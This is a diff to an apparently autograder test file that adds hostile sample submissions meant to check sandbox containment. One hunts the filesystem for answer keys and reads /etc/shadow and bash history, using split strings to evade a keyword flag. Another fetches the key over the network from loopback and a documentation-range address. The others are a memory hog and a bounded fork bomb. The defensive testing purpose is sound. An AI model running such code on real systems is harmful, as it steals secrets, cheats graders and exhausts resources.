@@ -274,3 +274,95 @@ deployment.update(coverage=float(_row["coverage"]), accuracy=float(_row["accurac
 DEPLOY_SCENARIO_Z = '''
 deployment.update(scenario="Z", decision_rule="x")
 '''
+
+# ---------------------------------------------------------------- hostile submissions the sandbox must contain
+# Graded sandboxed (the default), each must gain nothing and hurt nothing but itself.  They stay
+# harmless even if graded --unsandboxed by mistake: no traffic leaves the machine (192.0.2.0/24 is
+# reserved for documentation), the memory hog's pages are never touched, the fork bomb is bounded.
+
+# Set as the answer to the bug-hunt question: look for the instructor's files everywhere, with every
+# name built from pieces (a plain "autograder" in the source is flagged), and copy the key's answer.
+FS_HUNT = '''
+import json, os, sys
+chosen_bugs = set()   # no idea: go and find the answer key instead
+_names = {"answer" + "_key.json", "grade" + "book.db", "la" + "b.json", "home" + "work.json",
+          "lab" + "_cells.py", "home" + "work_cells.py", "week6_" + "lab.ipynb", "week6_" + "homework.ipynb"}
+_hits = []
+
+def _steal(path):
+    try:
+        with open(path, errors="replace") as fh:
+            text = fh.read()
+    except OSError:
+        return
+    _hits.append(path)
+    global chosen_bugs
+    if path.endswith("answer" + "_key.json"):
+        chosen_bugs = set(json.loads(text)["lab" + "_bug_choices"]["bugs"])
+    print(text[:2000])   # into my own feedback
+
+import helpers
+_roots = {os.path.dirname(os.path.dirname(os.path.abspath(helpers.__file__))), os.path.dirname(sys.prefix),
+          os.path.expanduser("~"), "/root", "/home", "/work", "/srv", "/opt"}
+_d = os.getcwd()
+for _ in range(8):
+    _roots.add(_d)
+    _d = os.path.dirname(_d)
+_rel = ["auto" + "grader/answer" + "_key.json", "auto" + "grader/expe" + "cted/la" + "b.json",
+        "grade" + "book.db", "notebooks/week6_lab/week6_" + "lab.ipynb", "nbgrader_work/grade" + "book.db"]
+for _r in sorted(_roots):
+    for _p in _rel:
+        if os.path.isfile(os.path.join(_r, _p)):
+            _steal(os.path.join(_r, _p))
+_mine = os.path.abspath("week6_" + "lab.ipynb")
+for _d, _dirs, _files in os.walk("/"):
+    _dirs[:] = [x for x in _dirs if os.path.join(_d, x) not in ("/proc", "/sys", "/dev")
+                and x not in ("site-packages", "dist-packages")]   # installed packages: public anyway
+    for _f in _files:
+        _p = os.path.join(_d, _f)
+        if _f in _names and _p != _mine:
+            _steal(_p)
+for _f in (os.path.expanduser("~/.bash_history"), "/root/.bash_history", "/etc/shadow"):
+    if os.path.isfile(_f):
+        _steal(_f)
+print("HUNT FOUND:", json.dumps(sorted(set(_hits))))
+'''
+
+# Also the answer to the bug-hunt question: ask a server for it (the end-to-end test runs one on the
+# grading machine's loopback at NET_PORT), or anything on the internet.
+NET_PORT = 47251
+NET_REACH = '''
+import json, socket
+chosen_bugs = set()
+_net = []
+for _host, _port in (("127.0.0.1", %d), ("192.0.2.1", 80)):
+    try:
+        with socket.create_connection((_host, _port), timeout=3) as _s:
+            _s.sendall(b"GET /key HTTP/1.0\\r\\n\\r\\n")
+            _reply = _s.recv(65536).decode(errors="replace")
+        chosen_bugs = set(json.loads(_reply.split("\\r\\n\\r\\n", 1)[-1])["bugs"])
+        _net.append(f"{_host}:{_port} reached")
+    except (OSError, ValueError, KeyError) as _e:
+        _net.append(f"{_host}:{_port} {type(_e).__name__}")
+print("NET:", json.dumps(_net))
+''' % NET_PORT
+
+# Prepended to a function's cell: ask for 16 GiB (calloc: never touched, so harmless without limits).
+MEMORY_HOG = '''
+_hog = bytearray(16 << 30)
+'''
+
+# Prepended to a function's cell: 2**10 processes unless something stops it; the children sleep and
+# leave (so it stays bounded even unsandboxed).
+FORK_BOMB = '''
+import os, time
+_root_pid = os.getpid()
+for _ in range(10):
+    try:
+        os.fork()
+    except OSError:
+        break
+if os.getpid() != _root_pid:
+    time.sleep(30)
+    os._exit(0)
+'''
